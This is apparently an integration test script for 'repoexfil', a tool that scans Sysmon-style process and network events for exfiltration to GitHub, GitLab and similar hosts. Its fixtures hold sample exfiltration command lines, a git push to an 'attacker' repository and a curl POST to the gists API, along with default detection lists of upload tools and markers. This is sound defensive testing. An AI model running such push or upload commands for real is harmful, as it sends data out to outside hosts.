#!/usr/bin/env python3
"""Integration test of `repoexfil scan` and `repoexfil check-config`.

Runs the real binary (REPOEXFIL_BIN) as a user would: files, stdin, gzip,
options, exit statuses, error messages. Then runs every detection case of
tests/data/cases/*.json through `scan` and checks the answer with the same
subset rules as tests/data/cases/README.md.

Environment (set by ctest): REPOEXFIL_BIN, RX_TEST_DATA, RX_DATASETS,
RX_SOURCE_DIR. Only the standard library is used. Prints `N passed, M
failed` last and exits non-zero on any failure.
"""
import collections
import glob
import gzip
import json
import os
import shlex
import subprocess
import sys
import tempfile

HERE = os.path.dirname(os.path.abspath(__file__))
SOURCE_DIR = os.environ.get("RX_SOURCE_DIR") or os.path.dirname(os.path.dirname(HERE))
TEST_DATA = os.environ.get("RX_TEST_DATA") or os.path.join(SOURCE_DIR, "tests", "data")
BIN = os.environ.get("REPOEXFIL_BIN")
TIMEOUT = 300 if os.environ.get("RX_SANITIZE", "").upper() in ("ON", "1", "TRUE") else 120
# REPOEXFIL_WRAPPER (e.g. valgrind ...) is prefixed to the runs, as in
# rxharness.py. RX_VALGRIND=1 gives them more time and, as valgrind's
# start-up dominates (~1 s a run, 400+ runs here), wraps one run in
# RX_VALGRIND_EVERY (default 4); the others run the binary directly.
WRAPPER = shlex.split(os.environ.get("REPOEXFIL_WRAPPER", ""))
WRAP_EVERY = 1
if os.environ.get("RX_VALGRIND", "").upper() in ("ON", "1", "TRUE", "YES"):
    TIMEOUT = 900
    WRAP_EVERY = max(1, int(os.environ.get("RX_VALGRIND_EVERY", "4")))
RUNS = [0]

ANSWER_KEYS = ["received", "evaluated", "errors", "threshold", "alert_count", "results", "alerts"]
RESULT_KEYS = ["index", "score", "signal", "signals", "is_ci_system", "is_known_ide", "alert"]
ALERT_KEYS = ["index", "_messageTime", "Computer", "User", "Image", "CommandLine", "ParentImage",
              "DestinationHostname", "Signal", "IsCISystem", "IsKnownIDE", "SuspicionScore"]
LIST_KEYS = ["repo_domains_network", "repo_domains_push", "repo_api_hosts", "network_images",
             "git_images", "upload_images", "push_markers", "upload_markers"]
DEFAULT_RULES = {
    "repo_domains_network": ["github.com", "gitlab.com", "bitbucket.org", "dev.azure.com",
                             "codeberg.org", "gist.github.com"],
    "repo_domains_push": ["github.com", "gitlab.com", "bitbucket.org", "dev.azure.com"],
    "repo_api_hosts": ["api.github.com", "api.gitlab.com", "gist.github.com"],
    "network_images": ["git.exe", "curl.exe", "wget.exe", "python.exe", "python3.exe",
                       "powershell.exe", "pwsh.exe", "node.exe", "ruby.exe"],
    "git_images": ["git.exe"],
    "upload_images": ["curl.exe", "wget.exe", "python.exe", "python3.exe", "powershell.exe",
                      "pwsh.exe", "node.exe", "ruby.exe"],
    "push_markers": ["push"],
    "upload_markers": ["-X PUT", "-X POST", "contents", "gists", "Invoke-RestMethod",
                       "requests.put", "requests.post", "upload"],
    "ci_system_regex": "jenkins|gitlab-runner|ci[-_]|build[-_]|deploy|devops|runner|bamboo|teamcity",
    "known_ide_regex": "code\\.exe|idea64\\.exe|pycharm|devenv\\.exe|sourcetree|gitkraken|fork\\.exe|tower\\.exe",
    "threshold": 2,
}

NDJSON_TYPES = ("application/x-ndjson", "application/jsonl")
XML_TYPES = ("application/xml", "text/xml")

passed = 0
failed = 0
failures = []


def ok(name, cond, detail=""):
    global passed, failed
    if cond:
        passed += 1
    else:
        failed += 1
        failures.append(name)
        print("FAIL %s%s" % (name, (": " + detail) if detail else ""), flush=True)
    return cond


def child_env():
    # The binary reads REPOEXFIL_* settings; keep the caller's out of it.
    env = {k: v for k, v in os.environ.items() if not k.startswith("REPOEXFIL_")}
    env.setdefault("ASAN_OPTIONS", "detect_leaks=1")
    return env


def run(args, stdin_bytes=None):
    RUNS[0] += 1
    wrap = WRAPPER if RUNS[0] % WRAP_EVERY == 0 else []
    p = subprocess.run(wrap + [BIN] + list(args), input=stdin_bytes if stdin_bytes is not None else b"",
                       stdout=subprocess.PIPE, stderr=subprocess.PIPE, timeout=TIMEOUT, env=child_env())
    return p.returncode, p.stdout.decode("utf-8", "replace"), p.stderr.decode("utf-8", "replace")


def load_answer(name, out):
    """Parses stdout as exactly one JSON document (keys kept in order)."""
    try:
        return json.loads(out, object_pairs_hook=collections.OrderedDict)
    except ValueError as e:
        ok(name + ": stdout is one JSON document", False, "%s; stdout starts %r" % (e, out[:200]))
        return None


def one_line(s):
    lines = [l for l in s.strip("\n").split("\n") if l.strip()]
    return len(lines) == 1


# ------------------------------------------------------------------ helpers
def write(tmp, name, data, mode="w"):
    path = os.path.join(tmp, name)
    with open(path, mode) as f:
        f.write(data)
    return path


GIT = "C:\\Program Files\\Git\\cmd\\git.exe"
PS = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
CURL = "C:\\Windows\\System32\\curl.exe"
PUSH_EV = {"EventID": 1, "Computer": "WS-0042", "User": "CORP\\bob", "Image": GIT,
           "CommandLine": "git.exe push https://github.com/attacker/drop.git main",
           "ParentImage": "C:\\Windows\\System32\\cmd.exe", "_messageTime": 1714566896789}
NET_EV = {"EventID": 3, "Computer": "WS-0042", "User": "CORP\\bob", "Image": PS,
          "DestinationHostname": "api.github.com", "_messageTime": 1714566897000}
IDE_EV = {"EventID": 3, "Computer": "WS-0042", "Image": PS, "DestinationHostname": "github.com",
          "ParentImage": "C:\\Users\\bob\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe"}
QUIET_EV = {"EventID": 1, "Computer": "WS-0042", "Image": "C:\\Windows\\System32\\cmd.exe",
            "CommandLine": "cmd.exe /c dir"}
UP_XML = ("<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System>"
          "<Provider Name='Microsoft-Windows-Sysmon'/><EventID>1</EventID>"
          "<TimeCreated SystemTime='2024-05-01T12:35:00.0000000Z'/><Computer>WS-0042</Computer></System>"
          "<EventData><Data Name='Image'>C:\\Windows\\System32\\curl.exe</Data>"
          "<Data Name='CommandLine'>curl.exe -X POST -d @g.json https://api.github.com/gists</Data>"
          "</EventData></Event>")


def check_answer_shape(name, a, with_results=True):
    if not ok(name + ": answer is an object", isinstance(a, dict), repr(a)[:200]):
        return False
    want = [k for k in ANSWER_KEYS if with_results or k != "results"]
    got = [k for k in a.keys() if k != "request_id"]
    good = ok(name + ": answer keys", sorted(got) == sorted(want), "got %s want %s" % (got, want))
    for r in a.get("results", []):
        keys = list(r.keys())
        if "error" in r:
            good &= ok(name + ": error result keys", sorted(keys) == ["error", "index"] and
                       isinstance(r["error"], str), repr(r))
        else:
            good &= ok(name + ": result keys", sorted(keys) == sorted(RESULT_KEYS), repr(keys))
    for r in a.get("alerts", []):
        good &= ok(name + ": alert row keys in the query's order", list(r.keys()) == ALERT_KEYS, repr(list(r.keys())))
    return good


# ------------------------------------------------------------------ scan CLI
def test_cli(tmp):
    # one JSON file
    f1 = write(tmp, "batch1.json", json.dumps([PUSH_EV, QUIET_EV]))
    rc, out, err = run(["scan", f1])
    ok("scan FILE exits 0", rc == 0, "rc=%d stderr=%s" % (rc, err))
    a = load_answer("scan FILE", out)
    if a is not None and check_answer_shape("scan FILE", a):
        ok("scan FILE counts", (a["received"], a["evaluated"], a["errors"], a["threshold"], a["alert_count"])
           == (2, 2, 0, 2, 1), repr({k: a[k] for k in ANSWER_KEYS[:5]}))
        ok("scan FILE alert row", a["alerts"] and a["alerts"][0]["index"] == 0 and
           a["alerts"][0]["Signal"] == "GitPushToExternalRepo" and a["alerts"][0]["SuspicionScore"] == 3 and
           a["alerts"][0]["_messageTime"] == 1714566896789 and a["alerts"][0]["DestinationHostname"] is None,
           repr(a["alerts"]))
        ok("scan FILE answer has no request_id", "request_id" not in a or a["request_id"] is None)

    # several files: JSON array, NDJSON, XML, .gz -> one batch, indexes continue
    f2 = write(tmp, "batch2.ndjson", json.dumps(NET_EV) + "\n\n" + json.dumps(QUIET_EV) + "\n")
    f3 = write(tmp, "batch3.xml", UP_XML + "\n")
    f4 = os.path.join(tmp, "batch4.ndjson.gz")
    with gzip.open(f4, "wt") as g:
        g.write(json.dumps(IDE_EV) + "\n" + json.dumps(PUSH_EV) + "\n")
    rc, out, err = run(["scan", f1, f2, f3, f4])
    ok("scan several files exits 0", rc == 0, "rc=%d stderr=%s" % (rc, err))
    a = load_answer("scan several files", out)
    if a is not None and check_answer_shape("scan several files", a):
        ok("scan several files: one batch", (a["received"], a["evaluated"], a["errors"], a["alert_count"]) ==
           (7, 7, 0, 4), repr({k: a[k] for k in ANSWER_KEYS[:5]}))
        ok("scan several files: result indexes continue across files",
           [r["index"] for r in a["results"]] == list(range(7)), repr([r.get("index") for r in a["results"]]))
        ok("scan several files: scores per file in order",
           [r.get("score") for r in a["results"]] == [3, 0, 2, 0, 3, 1, 3],
           repr([r.get("score") for r in a["results"]]))
        # alerts: score 3 by time desc (UP_XML 12:35:00.000 > PUSH 12:34:56.789; idx 0 and 6 tie -> input order)
        ok("scan several files: alert order and indexes",
           [r["index"] for r in a["alerts"]] == [4, 0, 6, 2], repr([r["index"] for r in a["alerts"]]))

    # .gz alone equals the plain file
    plain = write(tmp, "plain.ndjson", json.dumps(IDE_EV) + "\n" + json.dumps(PUSH_EV) + "\n")
    rc1, out1, _ = run(["scan", plain])
    rc2, out2, err2 = run(["scan", f4])
    ok("scan FILE.gz is read transparently", rc1 == 0 and rc2 == 0 and
       json.loads(out1 or "null") == json.loads(out2 or "null"), "rc=%d stderr=%s" % (rc2, err2))
    gzjson = os.path.join(tmp, "array.json.gz")
    with gzip.open(gzjson, "wt") as g:
        g.write(json.dumps([PUSH_EV, NET_EV]))
    rc, out, err = run(["scan", gzjson])
    a = load_answer("scan JSON array .gz", out) if rc == 0 else None
    ok("scan JSON array .gz", rc == 0 and a is not None and a.get("received") == 2 and a.get("alert_count") == 2,
       "rc=%d stderr=%s" % (rc, err))

    # stdin: '-' and no file
    body = (json.dumps(PUSH_EV) + "\n" + json.dumps(NET_EV) + "\n").encode()
    for args, label in ((["scan", "-"], "scan -"), (["scan"], "scan with no file")):
        rc, out, err = run(args, body)
        a = load_answer(label, out) if rc == 0 else None
        ok(label + " reads stdin", rc == 0 and a is not None and a.get("received") == 2 and
           a.get("alert_count") == 2, "rc=%d stderr=%s" % (rc, err))
    rc, out, err = run(["scan", f1, "-"], json.dumps([NET_EV]).encode())
    a = load_answer("scan FILE -", out) if rc == 0 else None
    ok("scan FILE - mixes a file and stdin in one batch", rc == 0 and a is not None and
       a.get("received") == 3 and [r["index"] for r in a.get("alerts", [])] == [0, 2],
       "rc=%d stderr=%s out=%s" % (rc, err, out[:300]))
    gzbody = gzip.compress(json.dumps([PUSH_EV]).encode())
    rc, out, err = run(["scan", "-"], gzbody)
    a = load_answer("scan gzip on stdin", out) if rc == 0 else None
    ok("scan - reads gzip on stdin transparently", rc == 0 and a is not None and a.get("received") == 1,
       "rc=%d stderr=%s" % (rc, err))

    # --view alerts
    rc, out, err = run(["scan", "--view", "alerts", f1])
    a = load_answer("scan --view alerts", out) if rc == 0 else None
    if ok("scan --view alerts exits 0", rc == 0 and a is not None, "rc=%d stderr=%s" % (rc, err)):
        check_answer_shape("scan --view alerts", a, with_results=False)
        ok("scan --view alerts leaves results out", "results" not in a and len(a.get("alerts", [])) == 1, repr(a)[:300])
    rc, out, err = run(["scan", "--view=alerts", f1])
    ok("scan --view=alerts form", rc == 0 and "results" not in json.loads(out or "{}"), "rc=%d %s" % (rc, err))

    # --threshold
    f5 = write(tmp, "scores.json", json.dumps([QUIET_EV, IDE_EV, NET_EV, PUSH_EV]))
    for t, n in (("1", 3), ("2", 2), ("3", 1)):
        rc, out, err = run(["scan", "--threshold", t, f5])
        a = load_answer("scan --threshold " + t, out) if rc == 0 else None
        ok("scan --threshold %s" % t, rc == 0 and a is not None and a.get("threshold") == int(t) and
           a.get("alert_count") == n and [r.get("alert") for r in a.get("results", [])] ==
           [False, int(t) <= 1, int(t) <= 2, True], "rc=%d stderr=%s out=%s" % (rc, err, out[:300]))
    rc, out, err = run(["scan", "--threshold", "abc", f5])
    ok("scan --threshold abc is a usage error (2, one line)", rc == 2 and one_line(err) and out == "",
       "rc=%d stderr=%r" % (rc, err))

    # --fail-on-alert
    rc, out, err = run(["scan", "--fail-on-alert", f1])
    ok("scan --fail-on-alert exits 1 when an alert fired", rc == 1 and json.loads(out or "{}").get("alert_count") == 1,
       "rc=%d stderr=%s" % (rc, err))
    fq = write(tmp, "quiet.json", json.dumps([QUIET_EV, IDE_EV]))
    rc, out, err = run(["scan", "--fail-on-alert", fq])
    ok("scan --fail-on-alert exits 0 when no alert fired", rc == 0 and json.loads(out or "{}").get("alert_count") == 0,
       "rc=%d stderr=%s" % (rc, err))
    rc, out, err = run(["scan", fq, "--fail-on-alert", "--threshold", "1"])
    ok("scan options after files; --fail-on-alert with --threshold 1 exits 1", rc == 1, "rc=%d stderr=%s" % (rc, err))

    # --rules: good file
    good = write(tmp, "good_rules.json", json.dumps({"threshold": 1, "network_images": ["Teams.exe"],
                                                      "known_ide_regex": "notepad\\+\\+\\.exe"}))
    teams = {"EventID": 3, "Image": "C:\\Users\\bob\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe",
             "DestinationHostname": "github.com",
             "ParentImage": "C:\\Users\\bob\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe"}
    fr = write(tmp, "rules_events.json", json.dumps([teams, NET_EV]))
    rc, out, err = run(["scan", "--rules", good, fr])
    a = load_answer("scan --rules good", out) if rc == 0 else None
    ok("scan --rules good file applies lists, regex and threshold", rc == 0 and a is not None and
       a.get("threshold") == 1 and [(r.get("score"), r.get("signal"), r.get("is_known_ide"))
                                     for r in a.get("results", [])] ==
       [(2, "NetworkConnectionToCodeRepo", False), (0, None, False)], "rc=%d stderr=%s out=%s" % (rc, err, out[:400]))
    rc, out, err = run(["scan", "--rules", good, "--threshold", "3", fr])
    a = load_answer("scan --rules --threshold", out) if rc == 0 else None
    ok("scan --threshold overrides the rules file's threshold", rc == 0 and a is not None and
       a.get("threshold") == 3 and a.get("alert_count") == 0, "rc=%d stderr=%s" % (rc, err))

    # --rules: bad files name the key
    for label, text, key in bad_rules():
        p = write(tmp, "bad_%s.json" % label, text)
        rc, out, err = run(["scan", "--rules", p, f1])
        ok("scan --rules with %s fails naming %r" % (label, key), rc not in (0, 1) and key in err and out == "",
           "rc=%d stderr=%r" % (rc, err))
    rc, out, err = run(["scan", "--rules", os.path.join(tmp, "no-such-rules.json"), f1])
    ok("scan --rules with a missing file exits 2", rc == 2 and err.strip() != "", "rc=%d stderr=%r" % (rc, err))

    # usage errors and unreadable input
    rc, out, err = run(["scan", "--no-such-option", f1])
    ok("scan unknown option exits 2 with a one-line message", rc == 2 and one_line(err) and
       "--no-such-option" in err and out == "", "rc=%d stderr=%r" % (rc, err))
    rc, out, err = run(["scan", "--view", "everything", f1])
    ok("scan --view with another value is a usage error", rc == 2 and one_line(err), "rc=%d stderr=%r" % (rc, err))
    rc, out, err = run(["scan", "--rules"])
    ok("scan --rules without a value is a usage error", rc == 2 and one_line(err), "rc=%d stderr=%r" % (rc, err))
    missing = os.path.join(tmp, "does-not-exist.ndjson")
    rc, out, err = run(["scan", missing])
    ok("scan missing file exits 2 with a one-line message naming it", rc == 2 and one_line(err) and
       "does-not-exist.ndjson" in err and out == "", "rc=%d stderr=%r" % (rc, err))
    rc, out, err = run(["scan", f1, missing])
    ok("scan a good and a missing file exits 2 and prints no answer", rc == 2 and out == "",
       "rc=%d stdout=%r" % (rc, out[:200]))
    rc, out, err = run(["scan", tmp])
    ok("scan a directory exits 2", rc == 2 and err.strip() != "", "rc=%d stderr=%r" % (rc, err))
    bad = write(tmp, "bad.json", '[{"EventID": 1, "Image": ')
    rc, out, err = run(["scan", bad])
    ok("scan malformed JSON file exits 2 with a one-line message", rc == 2 and one_line(err) and out == "",
       "rc=%d stderr=%r" % (rc, err))
    badgz = write(tmp, "bad.ndjson.gz", b"\x1f\x8b\x08\x00garbage-not-gzip", "wb")
    rc, out, err = run(["scan", badgz])
    ok("scan corrupt .gz exits 2", rc == 2 and err.strip() != "", "rc=%d stderr=%r out=%r" % (rc, err, out[:100]))
    rc, out, err = run(["scan", "--help"])
    ok("scan --help exits 0 and shows usage", rc == 0 and "scan" in out, "rc=%d" % rc)


def bad_rules():
    return [
        ("unknown_key", json.dumps({"repo_domain_network": ["github.com"]}), "repo_domain_network"),
        ("list_as_string", json.dumps({"git_images": "git.exe"}), "git_images"),
        ("list_of_numbers", json.dumps({"push_markers": [1, 2]}), "push_markers"),
        ("threshold_as_string", json.dumps({"threshold": "2"}), "threshold"),
        ("empty_list", json.dumps({"upload_markers": []}), "upload_markers"),
        ("bad_ci_regex", json.dumps({"ci_system_regex": "jenkins("}), "ci_system_regex"),
        ("bad_ide_regex", json.dumps({"known_ide_regex": "[code"}), "known_ide_regex"),
        ("regex_as_list", json.dumps({"known_ide_regex": ["code\\.exe"]}), "known_ide_regex"),
        ("malformed_json", '{"threshold": 2,', ""),
        ("not_an_object", '["github.com"]', ""),
    ]


# ------------------------------------------------------------------ check-config
def test_check_config(tmp):
    rc, out, err = run(["check-config"])
    ok("check-config exits 0", rc == 0, "rc=%d stderr=%s" % (rc, err))
    try:
        r = json.loads(out)
    except ValueError:
        r = None
    if ok("check-config prints JSON", isinstance(r, dict), out[:200]):
        ok("check-config keys are SPEC section 1's", sorted(r.keys()) == sorted(DEFAULT_RULES.keys()),
           repr(sorted(r.keys())))
        for k, v in DEFAULT_RULES.items():
            ok("check-config default %s" % k, r.get(k) == v, "got %r" % (r.get(k),))
    good = write(tmp, "cc_good.json", json.dumps({"repo_domains_push": ["github.com", "codeberg.org"],
                                                   "threshold": 3, "ci_system_regex": "^bld\\d+$"}))
    rc, out, err = run(["check-config", "--rules", good])
    r = json.loads(out) if rc == 0 and out.strip() else {}
    ok("check-config --rules good file shows the replaced values and keeps the rest",
       rc == 0 and r.get("repo_domains_push") == ["github.com", "codeberg.org"] and r.get("threshold") == 3 and
       r.get("ci_system_regex") == "^bld\\d+$" and r.get("git_images") == ["git.exe"] and
       r.get("known_ide_regex") == DEFAULT_RULES["known_ide_regex"], "rc=%d stderr=%s out=%s" % (rc, err, out[:300]))
    for label, text, key in bad_rules():
        p = write(tmp, "cc_bad_%s.json" % label, text)
        rc, out, err = run(["check-config", "--rules", p])
        ok("check-config --rules with %s exits non-zero naming %r" % (label, key),
           rc != 0 and key in (err + out) and err.strip() != "", "rc=%d stderr=%r" % (rc, err))
    # the message also says where (file name) for a bad key
    p = os.path.join(tmp, "cc_bad_unknown_key.json")
    rc, out, err = run(["check-config", "--rules", p])
    ok("check-config bad rules message names the file", "cc_bad_unknown_key.json" in err, repr(err))
    rc, out, err = run(["check-config", "--rules", os.path.join(tmp, "missing-rules.json")])
    ok("check-config --rules missing file exits non-zero", rc != 0 and err.strip() != "", "rc=%d" % rc)


# ------------------------------------------------------------------ cases
def subset(exp, act, path, errs):
    """Every member given in exp equals the actual one; {"error": true} means an error string."""
    if isinstance(exp, dict):
        if not isinstance(act, dict):
            errs.append("%s: expected an object, got %r" % (path, act))
            return
        for k, v in exp.items():
            if k == "error" and v is True:
                if not isinstance(act.get("error"), str):
                    errs.append("%s: expected a per-event error, got %r" % (path, act))
                continue
            if k not in act:
                errs.append("%s.%s: missing (expected %r)" % (path, k, v))
                continue
            subset(v, act[k], "%s.%s" % (path, k), errs)
    elif type(exp) is not type(act) or exp != act:
        # bool vs int matter: IsCISystem is 0/1, is_ci_system is true/false
        errs.append("%s: expected %r, got %r" % (path, exp, act))


def case_body(case):
    if "body_text" in case:
        return case["body_text"].encode("utf-8")
    return json.dumps(case["body"], separators=(",", ":"), ensure_ascii=False).encode("utf-8")


def case_ext(case):
    ct = (case.get("content_type") or "").split(";")[0].strip().lower()
    if ct in NDJSON_TYPES:
        return ".ndjson"
    if ct in XML_TYPES:
        return ".xml"
    if ct == "application/json":
        return ".json"
    return ".txt"


def run_case(tmp, fname, i, case):
    name = "%s[%d] %s" % (fname, i, case.get("name"))
    # BADTYPE means the HTTP Content-Type header was refused (415); `scan`
    # has no header and sniffs the bytes, so these cases only apply to
    # POST /events and are skipped here.
    if case.get("batch_error") == "BADTYPE":
        return None
    path = os.path.join(tmp, "case%s" % case_ext(case))
    with open(path, "wb") as f:
        f.write(case_body(case))
    args = ["scan"]
    if "rules" in case:
        rp = os.path.join(tmp, "case_rules.json")
        with open(rp, "w") as f:
            json.dump(case["rules"], f)
        args += ["--rules", rp]
    args.append(path)
    rc, out, err = run(args)
    if "batch_error" in case:
        code = case["batch_error"]
        if code == "EMPTY" and rc == 0:
            # An empty file is a readable input with no events for scan.
            try:
                a = json.loads(out)
            except ValueError:
                a = None
            return ok(name, isinstance(a, dict) and a.get("received") == 0, "rc=0 out=%r" % out[:200])
        return ok(name, rc == 2 and err.strip() != "" and out == "",
                  "expected batch error %s (exit 2), got rc=%d stderr=%r stdout=%r" % (code, rc, err, out[:200]))
    if rc != 0:
        return ok(name, False, "rc=%d stderr=%r" % (rc, err[:500]))
    try:
        a = json.loads(out, object_pairs_hook=collections.OrderedDict)
    except ValueError as e:
        return ok(name, False, "stdout is not JSON: %s" % e)
    errs = []
    subset(case.get("expect", {}), a, "answer", errs)
    for key in ("results", "alerts"):
        if key not in case:
            continue
        actual = a.get(key)
        if not isinstance(actual, list):
            errs.append("%s: missing" % key)
            continue
        if len(actual) != len(case[key]):
            errs.append("%s: expected %d, got %d: %s" % (key, len(case[key]), len(actual),
                                                         json.dumps(actual)[:600]))
            continue
        for j, (e, g) in enumerate(zip(case[key], actual)):
            subset(e, g, "%s[%d]" % (key, j), errs)
    for r in a.get("alerts", []):
        if list(r.keys()) != ALERT_KEYS:
            errs.append("alert row keys %r" % list(r.keys()))
            break
    return ok(name, not errs, "; ".join(errs)[:2000])


def test_cases(tmp):
    files = sorted(glob.glob(os.path.join(TEST_DATA, "cases", "*.json")))
    ok("case files exist", len(files) > 0, os.path.join(TEST_DATA, "cases"))
    names = set()
    skipped = 0
    for fn in files:
        with open(fn, encoding="utf-8") as f:
            try:
                cases = json.load(f)
            except ValueError as e:
                ok("%s parses" % os.path.basename(fn), False, str(e))
                continue
        for i, case in enumerate(cases):
            n = case.get("name")
            ok("case name unique: %s" % n, n not in names)
            names.add(n)
            if run_case(tmp, os.path.basename(fn), i, case) is None:
                skipped += 1
    print("cases: %d run, %d skipped (BADTYPE needs an HTTP Content-Type)" % (len(names) - skipped, skipped))


def test_file_reading(tmp):
    """Bytes are read as they are: a NUL byte is that line's error and the
    lines around it are whole; a newline inside an XML value is kept; a
    first NDJSON line longer than the sniffing window still streams."""
    push = json.dumps({"EventID": 1, "Image": GIT,
                       "CommandLine": "git push https://github.com/a/b"})
    body = (push + "\n" + '{"EventID":1,"Image":"a\x00b"}' + "\n" + push + "\n")
    path = write(tmp, "nul.ndjson", body.encode(), "wb")
    rc, out, err = run(["scan", path])
    a = load_answer("NUL byte", out)
    ok("NUL byte: exit 0", rc == 0, err)
    if a:
        ok("NUL byte: that line is an error, its neighbours scored",
           a["received"] == 3 and a["errors"] == 1 and a["alert_count"] == 2
           and "error" in a["results"][1], json.dumps(a)[:300])
    xml = ("<Events>\n<Event><System><EventID>1</EventID></System><EventData>"
           "<Data Name='Image'>" + GIT + "</Data><Data Name='CommandLine'>"
           "git push\nhttps://github.com/a/b</Data></EventData></Event>\n"
           "</Events>\n")
    path = write(tmp, "multiline.xml", xml)
    rc, out, err = run(["scan", "--view", "alerts", path])
    a = load_answer("multi-line XML", out)
    ok("multi-line XML value kept whole",
       a is not None and a["alert_count"] == 1 and
       a["alerts"][0]["CommandLine"] == "git push\nhttps://github.com/a/b",
       out[:300] + err)
    long_first = json.dumps({"EventID": 1, "Image": GIT, "Pad": "x" * 100000,
                             "CommandLine": "git push https://gitlab.com/c"})
    path = write(tmp, "long.ndjson", long_first + "\n" + push + "\n")
    rc, out, err = run(["scan", "--view", "alerts", path])
    a = load_answer("long first line", out)
    ok("NDJSON with a 100 KB first line: both events scored",
       a is not None and a["received"] == 2 and a["alert_count"] == 2,
       out[:300] + err)


def main():
    if not BIN or not os.access(BIN, os.X_OK):
        print("REPOEXFIL_BIN is not set to an executable (%r)" % BIN)
        print("0 passed, 1 failed")
        return 1
    with tempfile.TemporaryDirectory(prefix="rx-scan-") as tmp:
        test_cli(tmp)
        test_check_config(tmp)
        test_file_reading(tmp)
        test_cases(tmp)
    if failures:
        print("failed: %d checks" % len(failures))
    print("%d passed, %d failed" % (passed, failed))
    return 1 if failed else 0


if __name__ == "__main__":
    sys.exit(main())
